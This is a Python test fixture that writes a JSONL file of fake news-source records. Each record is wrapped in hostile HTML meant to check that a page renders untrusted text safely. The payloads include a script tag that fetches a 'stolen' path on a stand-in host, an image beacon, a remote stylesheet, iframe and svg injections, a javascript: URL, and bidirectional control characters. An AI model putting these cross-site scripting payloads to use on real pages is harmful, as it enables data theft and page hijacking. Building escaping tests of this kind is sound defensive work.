"""Sources that would harm a careless page: our own words, wrapped in everything that bites."""

from __future__ import annotations

import json
from pathlib import Path

SCRIPT = "<script>document.title='taken'; fetch('http://192.0.2.1/stolen')</script>"
BEACON = "<img src='http://192.0.2.1/seen.png' onerror=\"window.taken=1\">"
STYLE = "<style>*{display:none}</style><link rel=stylesheet href=http://192.0.2.1/a.css>"
ENTITIES = "&lt;b&gt; &amp;amp; &#0; &#x202e; &nbsp;</p></main></body>"
BIDI = "\u202eesrever\u202c \u2067right\u2069 \u200fmark\u200e"
FRAME = "<iframe src=javascript:alert(1)></iframe><svg onload=alert(1)><base href=//192.0.2.1/>"

_SUM = "Norway will lend Latvia €450m for {} radar sets, the minister said on 4 May 2025."
_SAID = 'Latvia\'s prime minister said: "We thank {} Norway."'
_TRUCE = "Finland proposed a truce of one month at sea {}."


def _text(words: str) -> str:
    return " ".join(sentence.format(words) for sentence in (_SUM, _SAID, _TRUCE))


def _line(number: int, words: str, **more: str) -> dict[str, str]:
    return {
        "id": f"hostile-{number}{words[:40]}",
        "text": _text(words),
        "title": words,
        "publisher": words,
        "published": "2025-05-05",
        "lang": "en",
        **more,
    }


def write(folder: Path) -> Path:
    """Write the sources as JSON lines; gives the file."""
    kinds = (SCRIPT, BEACON, STYLE, ENTITIES, BIDI, FRAME)
    lines = [_line(number, words) for number, words in enumerate(kinds)]
    lines.append(_line(6, "nothing", url="javascript:alert(document.domain)//"))
    lines.append(_line(7, "x" * 5000, url="https://example.org/" + "y" * 5000))
    file = folder / "hostile.jsonl"
    file.write_text("".join(json.dumps(line) + "\n" for line in lines), encoding="utf-8")
    return file
